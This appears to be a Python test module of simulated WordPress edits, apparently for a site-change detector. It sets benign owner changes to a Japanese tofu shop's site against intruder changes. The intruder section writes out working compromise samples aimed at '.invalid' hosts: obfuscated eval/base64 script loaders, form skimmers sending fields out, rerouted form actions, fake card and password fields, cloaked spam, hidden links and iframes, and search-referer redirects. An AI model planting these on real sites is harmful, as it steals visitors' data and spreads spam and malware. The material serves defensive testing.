"""Edits made in the real WordPress: what its owner does in the editor, the theme and the plugins,
and what intruders do to files and database. ``.invalid`` stands for hosts of intruders.
"""

import base64
from collections.abc import Callable

from tests.support.watched.wordpress import PLUGINS, THEME, WordPress

Edit = Callable[[WordPress], None]
OWNER: dict[str, Edit] = {}
INTRUDER: dict[str, Edit] = {}

HEADER, FOOTER = f"{THEME}/header.php", f"{THEME}/footer.php"
FUNCTIONS = f"{THEME}/functions.php"


def owner(name: str) -> Callable[[Edit], Edit]:
    def register(edit: Edit) -> Edit:
        OWNER[name] = edit
        return edit

    return register


def intruder(name: str) -> Callable[[Edit], Edit]:
    def register(edit: Edit) -> Edit:
        INTRUDER[name] = edit
        return edit

    return register


def text(value: str) -> str:
    """Return a PHP expression for a text, whatever is in it."""
    return f"base64_decode('{base64.b64encode(value.encode()).decode()}')"


def post(cms: WordPress, title: str, html: str, more: str = "") -> None:
    """Publish an article as the editor does; ``more``: further fields in PHP."""
    cms.php(
        f"wp_insert_post([{more} 'post_type' => 'post', 'post_status' => 'publish',"
        f"'post_title' => {text(title)}, 'post_content' => wp_slash({text(html)})]);"
    )


def on_page(cms: WordPress, slug: str, html: str) -> None:
    """Write something below the content of a page, as the editor does."""
    cms.php(
        f"$p = get_page_by_path('{slug}');"
        f"wp_update_post(['ID' => $p->ID, 'post_content' => wp_slash($p->post_content . {text(html)})]);"
    )


def html_block(html: str) -> str:
    return f"<!-- wp:html -->\n{html}\n<!-- /wp:html -->"


def plugin(cms: WordPress, name: str, title: str, code: str) -> None:
    """Put a plugin into its folder and switch it on."""
    cms.write(f"{PLUGINS}/{name}/{name}.php", f"<?php\n/* Plugin Name: {title} */\n{code}")
    cms.php(f"$e = activate_plugin('{name}/{name}.php'); if (is_wp_error($e)) throw new Error();")


# What owners do: one after the other on the same site, from look to look. What adds pages comes
# late, so that the looks before are short.


@owner("nothing at all: tokens and times change with every page")
def _(cms: WordPress) -> None:
    pass


@owner("an edited page: new prices")
def _(cms: WordPress) -> None:
    cms.php(
        "$p = get_page_by_path('shouhin');"
        "wp_update_post(['ID' => $p->ID, 'post_content' => str_replace("
        "['二八〇円', '二六〇円'], ['三〇〇円', '二八〇円'], $p->post_content)]);"
    )


@owner("another title and tagline of the site")
def _(cms: WordPress) -> None:
    cms.php(
        "update_option('blogname', 'みずの豆腐店'); update_option('blogdescription', '創業七十年の味');"
    )


@owner("another text and links of shops in the footer")
def _(cms: WordPress) -> None:
    cms.php(
        """
        $blocks = get_option('widget_block');
        $blocks[4]['content'] = '<!-- wp:paragraph --><p>電話 0120-000-000 (水曜は休み)</p><!-- /wp:paragraph -->';
        $blocks[5] = ['content' => '<!-- wp:list --><ul><li><a href="https://komeya.other.test/">米屋</a></li><li><a href="https://misoya.other.test/">味噌屋</a></li></ul><!-- /wp:list -->'];
        update_option('widget_block', $blocks);
        $bars = get_option('sidebars_widgets');
        $bars['sidebar-1'][] = 'block-5';
        update_option('sidebars_widgets', $bars);
        """
    )


@owner("other colours, and own styles")
def _(cms: WordPress) -> None:
    cms.php(
        "set_theme_mod('background_color', 'e4dad1');"
        "wp_update_custom_css_post('.site-title{letter-spacing:.2em} .powered-by{display:none}"
        " @media print{.widget-area{display:none}}');"
    )


@owner("a plugin with its own styles and script")
def _(cms: WordPress) -> None:
    cms.write(
        f"{PLUGINS}/ue-he/ue-he.js",
        """(function () {
  var up = document.createElement('button');
  up.className = 'ue-he';
  up.textContent = '上へ';
  up.style.display = 'none';
  up.addEventListener('click', function () { window.scrollTo(0, 0); });
  window.addEventListener('scroll', function () {
    up.style.display = window.scrollY > 400 ? 'block' : 'none';
  });
  document.body.appendChild(up);
})();
""",
    )
    cms.write(f"{PLUGINS}/ue-he/ue-he.css", ".ue-he{position:fixed;right:1em;bottom:1em}")
    plugin(
        cms,
        "ue-he",
        "上へ",
        """add_action('wp_enqueue_scripts', function () {
    wp_enqueue_style('ue-he', plugins_url('ue-he.css', __FILE__));
    wp_enqueue_script('ue-he', plugins_url('ue-he.js', __FILE__), [], '1.0', true);
    wp_localize_script('ue-he', 'ueHe', ['ajax' => admin_url('admin-ajax.php'), 'token' => wp_create_nonce('ue')]);
});""",
    )


@owner("a plugin that uses jQuery")
def _(cms: WordPress) -> None:
    cms.write(
        f"{PLUGINS}/slides/slides.js",
        "jQuery(function ($) { $('.wp-block-image img').hide().fadeIn(900); });",
    )
    plugin(
        cms,
        "slides",
        "写真",
        "add_action('wp_enqueue_scripts', function () {"
        "wp_enqueue_script('slides', plugins_url('slides.js', __FILE__), ['jquery'], '2.1', true); });",
    )


@owner("a plugin updated: other files, other number")
def _(cms: WordPress) -> None:
    cms.replace(f"{PLUGINS}/toiawase/toiawase.php", "'1.2', true", "'1.3', true")
    cms.append(
        f"{PLUGINS}/toiawase/toiawase.js",
        """document.addEventListener('input', function (event) {
  if (event.target.name === 'mail') event.target.value = event.target.value.trim();
});
""",
    )


@owner("Akismet switched on")
def _(cms: WordPress) -> None:
    cms.php("$e = activate_plugin('akismet/akismet.php'); if (is_wp_error($e)) throw new Error();")


@owner("a map of Google")
def _(cms: WordPress) -> None:
    on_page(
        cms,
        "annai",
        html_block(
            '<iframe src="https://www.google.com/maps/embed?pb=!1m18" width="600" height="450" style="border:0;" loading="lazy"></iframe>'
        ),
    )


@owner("a tag of Google Analytics in the theme")
def _(cms: WordPress) -> None:
    cms.replace(
        HEADER,
        "<?php wp_head(); ?>",
        """<script async src="https://www.googletagmanager.com/gtag/js?id=G-ABC123"></script>
<script>window.dataLayer = window.dataLayer || []; function gtag(){dataLayer.push(arguments);}
gtag('js', new Date()); gtag('config', 'G-ABC123');</script>
<?php wp_head(); ?>""",
    )


@owner("a category renamed")
def _(cms: WordPress) -> None:
    cms.php(
        "wp_update_term(get_option('default_category'), 'category', ['name' => '店だより', 'slug' => 'tayori']);"
    )


@owner("a price list to download")
def _(cms: WordPress) -> None:
    cms.write("wp-content/uploads/nedan.pdf", "%PDF-1.4\n")
    on_page(
        cms,
        "shouhin",
        '<!-- wp:file --><div class="wp-block-file"><a href="/wp-content/uploads/nedan.pdf" download>値段の表</a></div><!-- /wp:file -->',
    )


@owner("one more field in the form")
def _(cms: WordPress) -> None:
    cms.replace(
        f"{PLUGINS}/toiawase/toiawase.php",
        "'<p><label>ご用件",
        '\'<p><label>電話 <input type="tel" name="denwa"></label></p><p><label>ご用件',
    )


@owner("fonts of TypeSquare, as a Japanese host's plugin brings them")
def _(cms: WordPress) -> None:
    plugin(
        cms,
        "fonts",
        "書体",
        "add_action('wp_enqueue_scripts', function () { wp_enqueue_script('fonts',"
        " '//typesquare.com/3/tsst/script/ja/typesquare.js?abc', [], '2.0', true); });",
    )


@owner("a form of Google and a post of Instagram")
def _(cms: WordPress) -> None:
    on_page(
        cms,
        "annai",
        html_block(
            '<iframe src="https://docs.google.com/forms/d/e/1FAIpQL/viewform?embedded=true" width="640" height="500"></iframe>'
            '<blockquote class="instagram-media" data-instgrm-permalink="https://www.instagram.com/p/Abc/"></blockquote>'
            '<script async src="//www.instagram.com/embed.js"></script>'
        ),
    )


@owner("a log-in for members in the footer")
def _(cms: WordPress) -> None:
    cms.php(
        """
        $blocks = get_option('widget_block');
        $blocks[8] = ['content' => '<!-- wp:loginout {"displayLoginAsForm":true} /-->'];
        update_option('widget_block', $blocks);
        $bars = get_option('sidebars_widgets');
        $bars['sidebar-1'][] = 'block-8';
        update_option('sidebars_widgets', $bars);
        """
    )


@owner("a booking service nobody knows")
def _(cms: WordPress) -> None:
    on_page(
        cms,
        "annai",
        html_block(
            '<script src="https://widget.booking-service.example/v1/embed.js" async></script>'
        ),
    )


@owner("an old post deleted")
def _(cms: WordPress) -> None:
    cms.php("wp_trash_post(get_page_by_path('bon-yasumi', OBJECT, 'post')->ID);")


@owner("a news post")
def _(cms: WordPress) -> None:
    post(cms, "年末年始の営業", "<p>十二月三十日まで開けます。年始は五日からです。</p>")


@owner("a news post with a picture")
def _(cms: WordPress) -> None:
    cms.php(
        """
        $file = wp_upload_dir()['path'] . '/ganmodoki.png';
        $drawn = imagecreatetruecolor(900, 600);
        imagefill($drawn, 0, 0, imagecolorallocate($drawn, 200, 150, 80));
        imagepng($drawn, $file);
        $id = wp_insert_attachment(['post_title' => 'がんもどき', 'post_mime_type' => 'image/png'], $file);
        wp_update_attachment_metadata($id, wp_generate_attachment_metadata($id, $file));
        $post = wp_insert_post(['post_status' => 'publish', 'post_title' => 'がんもどき、揚がりました',
            'post_content' => '<p>ひじきと人参入りです。</p>' . wp_get_attachment_image($id, 'large')]);
        set_post_thumbnail($post, $id);
        """
    )


@owner("a video of YouTube")
def _(cms: WordPress) -> None:
    player = '<iframe width="560" height="315" src="https://www.youtube.com/embed/a1b2c3" title="豆腐" allowfullscreen></iframe>'
    post(cms, "作り方を撮りました", f'<figure class="wp-block-embed">{player}</figure>')


@owner("a scheduled post comes out")
def _(cms: WordPress) -> None:
    # The date is set back: that is the hour that passes.
    cms.php(
        """
        global $wpdb;
        $id = wp_insert_post(['post_status' => 'future', 'post_date' => date('Y-m-d H:i:s', time() + 99999),
            'post_title' => '初売り', 'post_content' => '<p>福袋は五十個です。</p>']);
        $wpdb->update($wpdb->posts, ['post_date' => current_time('mysql'),
            'post_date_gmt' => current_time('mysql', 1)], ['ID' => $id]);
        clean_post_cache($id);
        check_and_publish_future_post($id);
        if (get_post_status($id) !== 'publish') throw new Error(get_post_status($id));
        """
    )


@owner("an open post gets a password")
def _(cms: WordPress) -> None:
    cms.php(
        "$p = get_page_by_path('shindaizu', OBJECT, 'post');"
        "wp_update_post(['ID' => $p->ID, 'post_password' => 'mizuno']);"
    )


@owner("a new page in the menu")
def _(cms: WordPress) -> None:
    cms.php(
        """
        $id = wp_insert_post(['post_type' => 'page', 'post_status' => 'publish', 'post_name' => 'saiyou',
            'post_title' => '人を募ります', 'post_content' => '<p>朝四時から正午まで。見習いから。</p>']);
        $menu = wp_get_nav_menu_object('おもなページ');
        wp_update_nav_menu_item($menu->term_id, 0, ['menu-item-object-id' => $id,
            'menu-item-object' => 'page', 'menu-item-type' => 'post_type', 'menu-item-status' => 'publish']);
        """
    )


@owner("a post with a password")
def _(cms: WordPress) -> None:
    post(cms, "得意先の皆さまへ", "<p>新しい値段の表です。</p>", "'post_password' => 'mizuno',")


@owner("another front page: the news")
def _(cms: WordPress) -> None:
    cms.php("update_option('show_on_front', 'posts');")


@owner("two comments, one with the visitor's own site")
def _(cms: WordPress) -> None:
    cms.php(
        """
        $post = get_page_by_path('shindaizu', OBJECT, 'post');
        foreach (['' => 'おいしかったです。', 'https://nikki.other.test/' => '日記で紹介しました。'] as $url => $said) {
            wp_new_comment(['comment_post_ID' => $post->ID, 'comment_author' => '客', 'comment_author_url' => $url,
                'comment_author_email' => strlen($url) . '@other.test', 'comment_content' => $said,
                'comment_approved' => 1], true);
        }
        foreach (get_comments(['status' => 'hold']) as $waits) wp_set_comment_status($waits, 'approve');
        """
    )


@owner("a calendar and the latest comments in the footer")
def _(cms: WordPress) -> None:
    cms.php(
        """
        $blocks = get_option('widget_block');
        $blocks[6] = ['content' => '<!-- wp:calendar /-->'];
        $blocks[7] = ['content' => '<!-- wp:latest-comments {"commentsToShow":3} /-->'];
        update_option('widget_block', $blocks);
        $bars = get_option('sidebars_widgets');
        array_push($bars['sidebar-1'], 'block-6', 'block-7');
        update_option('sidebars_widgets', $bars);
        """
    )


@owner("so many posts that there is a second page")
def _(cms: WordPress) -> None:
    for n in range(1, 9):
        post(cms, f"今週の豆腐 {n}", f"<p>{n}週目は枝豆の豆腐です。</p>")


@owner("another theme, made of blocks")
def _(cms: WordPress) -> None:
    cms.php("switch_theme('twentytwentythree');")


# What intruders do: each undone before the next.


def _b64(code: str) -> str:
    return base64.b64encode(code.encode()).decode()


LOADER = "var s=document.createElement('script');s.src='https://js-load.invalid/l.js';document.head.appendChild(s);"


@intruder("a script from elsewhere in header.php")
def _(cms: WordPress) -> None:
    cms.replace(
        HEADER,
        "<?php wp_head(); ?>",
        "<script src='https://cdn-stat.invalid/x.js'></script>\n<?php wp_head(); ?>",
    )


@intruder("eval(atob()) in footer.php")
def _(cms: WordPress) -> None:
    cms.replace(FOOTER, "</body>", f"<script>eval(atob('{_b64(LOADER)}'))</script></body>")


@intruder("numbers that become a script, at the head of the theme's own file")
def _(cms: WordPress) -> None:
    numbers = ",".join(str(ord(c)) for c in LOADER)
    path = f"{THEME}/assets/js/primary-navigation.js"
    cms.write(path, f"eval(String.fromCharCode({numbers}));{cms.read(path)}")


@intruder("a script made by PHP that hides itself (base64_decode in functions.php)")
def _(cms: WordPress) -> None:
    code = "add_action('wp_head', function () { echo '<script async src=\"//stat-count.invalid/c.js\"></script>'; }, 1);"
    cms.append(FUNCTIONS, f"\neval(base64_decode('{_b64(code)}'));\n")


PILLS = "<div>Buy cheap Viagra online, Cialis, Levitra without prescription. Viagra Cialis best price</div>"


@intruder("pills, shown to Googlebot only")
def _(cms: WordPress) -> None:
    cms.append(
        FUNCTIONS,
        "\nif (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'] ?? '')) {"
        f" add_action('wp_body_open', function () {{ echo '{PILLS}'; }}); }}\n",
    )


@intruder("brands, shown to visitors from a search only")
def _(cms: WordPress) -> None:
    cms.append(
        FUNCTIONS,
        "\nif (preg_match('/google|yahoo/i', $_SERVER['HTTP_REFERER'] ?? '')) { add_action('wp_body_open',"
        " function () { echo 'ルイヴィトン グッチ シャネル ロレックス スーパーコピー 激安 通販 専門店 送料無料 N級品 スーパーコピー時計'; }); }\n",
    )


@intruder("pills, shown to Googlebot only, on the articles only")
def _(cms: WordPress) -> None:
    cms.append(
        FUNCTIONS,
        "\nadd_filter('the_content', function ($text) {"
        " return is_single() && preg_match('/googlebot/i', $_SERVER['HTTP_USER_AGENT'] ?? '')"
        f" ? '{PILLS}' . $text : $text; }});\n",
    )


def _many(cms: WordPress, title: str, slug: str, body: str, *, date: str, count: int = 300) -> None:
    """Write articles straight into the database; $i and the PHP values in the texts differ."""
    cms.php(
        f"""
        global $wpdb;
        for ($i = 0; $i < {count}; $i++) {{
            $wpdb->insert($wpdb->posts, ['post_author' => 1, 'post_status' => 'publish', 'post_type' => 'post',
                'post_title' => {title}, 'post_name' => {slug}, 'post_content' => {body},
                'post_date' => '{date}', 'post_date_gmt' => '{date}', 'post_modified' => '{date}',
                'post_modified_gmt' => '{date}', 'post_excerpt' => '', 'to_ping' => '', 'pinged' => '',
                'post_content_filtered' => '']);
        }}
        """
    )


@intruder("300 articles that sell brands, named after them")
def _(cms: WordPress) -> None:
    _many(
        cms,
        "'ロレックス スーパーコピー 激安 ' . $i",
        "sanitize_title('ロレックス-スーパーコピー-激安-通販-' . $i)",
        "'ロレックス コピー時計 N級品 激安 通販 専門店 送料無料 代引'",
        date="2026-11-20 03:00:00",
    )


@intruder("300 articles that sell brands, with names that say nothing, dated back")
def _(cms: WordPress) -> None:
    _many(
        cms,
        "'グッチ 財布 アウトレット ' . $i",
        "substr(md5('a' . $i), 0, 9)",
        "'グッチ シャネル ルイヴィトン 財布 激安 通販 最安値 送料無料 正規品 楽天'",
        date="2019-03-02 03:00:00",
    )


@intruder("ten articles that sell brands, with names that say nothing, dated back")
def _(cms: WordPress) -> None:
    _many(
        cms,
        "'グッチ 財布 アウトレット ' . $i",
        "substr(md5('b' . $i), 0, 9)",
        "'グッチ シャネル ルイヴィトン 財布 激安 通販 最安値 送料無料 正規品 楽天'",
        date="2019-03-02 03:00:00",
        count=10,
    )


@intruder("fifty hidden links in the foot of every page")
def _(cms: WordPress) -> None:
    cms.append(
        FUNCTIONS,
        "\nadd_action('wp_footer', function () { echo '<div style=\"position:absolute;left:-9876px\">';"
        " for ($i = 0; $i < 50; $i++) echo \"<a href='http://shop$i.farm$i.invalid/'>replica $i</a> \";"
        " echo '</div>'; });\n",
    )


@intruder("three hidden links in the foot of the front page")
def _(cms: WordPress) -> None:
    cms.append(
        FUNCTIONS,
        "\nadd_action('wp_footer', function () { if (is_front_page()) echo '<p style=\"display:none\">"
        '<a href="http://slot.one.invalid/">slot</a><a href="http://two.invalid/">casino</a>'
        '<a href="http://bet.three.invalid/">bet</a></p>\'; });\n',
    )


@intruder("five open links to casinos in a widget")
def _(cms: WordPress) -> None:
    cms.php(
        """
        $blocks = get_option('widget_block');
        $blocks[4]['content'] = '';
        for ($i = 0; $i < 5; $i++) $blocks[4]['content'] .= "<a href='https://casino$i.invalid/'>best slots $i</a> ";
        update_option('widget_block', $blocks);
        """
    )


@intruder("a hidden frame")
def _(cms: WordPress) -> None:
    cms.replace(
        FOOTER,
        "<?php wp_footer(); ?>",
        '<iframe src="http://exploit.invalid/in.php" width="1" height="1" style="visibility:hidden"></iframe><?php wp_footer(); ?>',
    )


@intruder("a skimmer in the script of the form's plugin")
def _(cms: WordPress) -> None:
    cms.append(
        f"{PLUGINS}/toiawase/toiawase.js",
        "document.addEventListener('submit',function(e){navigator.sendBeacon('https://form-log.invalid/c',new FormData(e.target))});",
    )


@intruder("a skimmer written into the page of the form")
def _(cms: WordPress) -> None:
    on_page(
        cms,
        "toiawase",
        html_block(
            "<script>document.querySelector('form.toiawase').addEventListener('change',function(e){new Image().src='https://px.invalid/p.gif?'+e.target.name+'='+encodeURIComponent(e.target.value)})</script>"
        ),
    )


@intruder("the form sends elsewhere")
def _(cms: WordPress) -> None:
    cms.replace(
        f"{PLUGINS}/toiawase/toiawase.php",
        "esc_url(get_permalink())",
        "'https://collect.invalid/post.php'",
    )


@intruder("the form sends to an intruder's file on the site itself")
def _(cms: WordPress) -> None:
    cms.write("wp-content/uploads/2026/mail.php", "<?php // keeps what it is sent\n")
    cms.replace(
        f"{PLUGINS}/toiawase/toiawase.php",
        "esc_url(get_permalink())",
        "'/wp-content/uploads/2026/mail.php'",
    )


@intruder("the form asks for a password")
def _(cms: WordPress) -> None:
    cms.replace(
        f"{PLUGINS}/toiawase/toiawase.php",
        "'<p><label>ご用件",
        '\'<p><label>メールのパスワード <input type="password" name="pw"></label></p><p><label>ご用件',
    )


@intruder("the form asks for a card")
def _(cms: WordPress) -> None:
    cms.replace(
        f"{PLUGINS}/toiawase/toiawase.php",
        "'<p><label>ご用件",
        '\'<p><label>カード番号 <input name="card_number"></label></p><p><label>ご用件',
    )


@intruder("siteurl leads to another host: scripts and styles come from there")
def _(cms: WordPress) -> None:
    cms.php("update_option('siteurl', 'http://wp-assets.invalid');")


@intruder("home and siteurl lead to another host")
def _(cms: WordPress) -> None:
    cms.php(
        "update_option('siteurl', 'http://prize.invalid'); update_option('home', 'http://prize.invalid');"
    )


@intruder("everybody is led elsewhere by a header")
def _(cms: WordPress) -> None:
    cms.replace(
        HEADER,
        "<!doctype html>",
        "<?php header('Location: http://prize.invalid/', true, 302); ?><!doctype html>",
    )


@intruder("visitors from a search are led elsewhere by a header")
def _(cms: WordPress) -> None:
    cms.append(
        FUNCTIONS,
        "\nadd_action('template_redirect', function () { if (preg_match('/google|yahoo|bing/i',"
        " $_SERVER['HTTP_REFERER'] ?? '')) { header('Location: http://fake-shop.invalid/'); exit; } });\n",
    )


@intruder("phones are led elsewhere by a header")
def _(cms: WordPress) -> None:
    cms.append(
        FUNCTIONS,
        "\nadd_action('template_redirect', function () { if (preg_match('/iphone|android/i',"
        " $_SERVER['HTTP_USER_AGENT'] ?? '')) { header('Location: http://app.invalid/'); exit; } });\n",
    )


@intruder("visitors from a search are led elsewhere by .htaccess")
def _(cms: WordPress) -> None:
    cms.write(
        ".htaccess",
        "RewriteEngine On\nRewriteCond %{HTTP_REFERER} (google|yahoo|bing) [NC]\n"
        "RewriteRule .* http://fake-shop.invalid/ [R=302,L]\n" + cms.read(".htaccess"),
    )


@intruder("a meta refresh")
def _(cms: WordPress) -> None:
    cms.replace(
        HEADER,
        "<?php wp_head(); ?>",
        '<meta http-equiv="refresh" content="3;url=https://prize.invalid/"><?php wp_head(); ?>',
    )


@intruder("a redirect by a script in the database's text of the front page")
def _(cms: WordPress) -> None:
    on_page(
        cms,
        "home",
        html_block("<script>window.location.replace('https://track.invalid/go?c=7');</script>"),
    )


@intruder("the text of the front page replaced by a boast")
def _(cms: WordPress) -> None:
    cms.php(
        "wp_update_post(['ID' => get_option('page_on_front'), 'post_title' => 'Hacked by K1ng0fN0thing',"
        "'post_content' => '<h1>Hacked by K1ng0fN0thing</h1><p>Your security is low</p>']);"
    )


@intruder("an index.html before index.php")
def _(cms: WordPress) -> None:
    cms.write(
        "index.html",
        "<html><head><title>./Str4nger</title></head><body bgcolor=black><center><font color=lime>"
        "We own this box. No war.</font></center></body></html>",
    )


@intruder("a script in the text of every page and article")
def _(cms: WordPress) -> None:
    cms.php(
        'global $wpdb; $wpdb->query($wpdb->prepare("UPDATE $wpdb->posts SET post_content = '
        "CONCAT(post_content, %s) WHERE post_type IN ('post', 'page')\","
        " \"<script src='https://lobby.desk-work.invalid/m.js?s=q&ver=2' type='text/javascript'></script>\"));"
    )


@intruder("a plugin that loads a script from a look-alike of Google's")
def _(cms: WordPress) -> None:
    plugin(
        cms,
        "wp-seo-helper",
        "WP SEO Helper",
        "add_action('wp_head', function () { echo '<script async src=\"https://www.googletagmanagar.com/gtm.js?id=GTM-K2\"></script>'; });",
    )


@intruder("a plugin that loads a script somebody put at jsDelivr")
def _(cms: WordPress) -> None:
    plugin(
        cms,
        "wp-cache-helper",
        "WP Cache Helper",
        "add_action('wp_footer', function () { echo '<script src=\"https://cdn.jsdelivr.net/gh/nobody77/js@main/a.js\"></script>'; });",
    )


@intruder("a program to download, in an article")
def _(cms: WordPress) -> None:
    post(
        cms,
        "お使いのブラウザーを更新してください",
        '<p><a href="https://dl.invalid/BrowserUpdate.exe">更新する</a></p>',
    )


@intruder("a program to download, on the site itself")
def _(cms: WordPress) -> None:
    cms.write("wp-content/uploads/viewer.exe", "MZ")
    on_page(cms, "annai", '<p><a href="/wp-content/uploads/viewer.exe">図面の表示</a></p>')


@intruder("a sitemap of its own with 800 addresses")
def _(cms: WordPress) -> None:
    rows = "".join(
        f"<url><loc>http://www.shop.test/?p={n:x}x{n % 13}</loc></url>" for n in range(800)
    )
    cms.write(
        "sitemap.xml",
        f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{rows}</urlset>',
    )


@intruder("a folder of pages that nothing leads to")
def _(cms: WordPress) -> None:
    for n in range(20):
        cms.write(
            f"xk/{n}.html", f"<title>スーパーコピー {n}</title>スーパーコピー 激安 通販 送料無料"
        )
